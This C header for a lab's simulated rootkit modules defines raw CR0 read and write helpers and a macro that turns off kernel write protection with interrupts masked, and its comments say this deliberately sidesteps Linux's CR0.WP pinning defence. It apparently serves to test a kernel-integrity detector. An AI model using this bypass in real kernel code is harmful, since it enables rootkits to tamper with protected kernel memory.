/* Shared helpers for the vigil lab's attack modules: each one plays a rootkit
 * that writes where only the kernel's own patching machinery may write. */
#include <linux/kernel.h>
#include <asm/processor-flags.h>

/* write_cr0() pins CR0.WP on 6.1, as a defence against exactly this; a rootkit
 * goes around it with a raw move to CR0, and so do these modules. */
static inline unsigned long lab_read_cr0(void)
{
	unsigned long v;
	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void lab_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/* Run `body` with write protection off and interrupts masked, as rootkits do. */
#define LAB_WITH_WP_CLEARED(body)                                  \
	do {                                                       \
		unsigned long __flags, __cr0;                      \
		local_irq_save(__flags);                           \
		__cr0 = lab_read_cr0();                            \
		lab_write_cr0(__cr0 & ~X86_CR0_WP);                \
		body;                                              \
		lab_write_cr0(__cr0);                              \
		local_irq_restore(__flags);                        \
	} while (0)
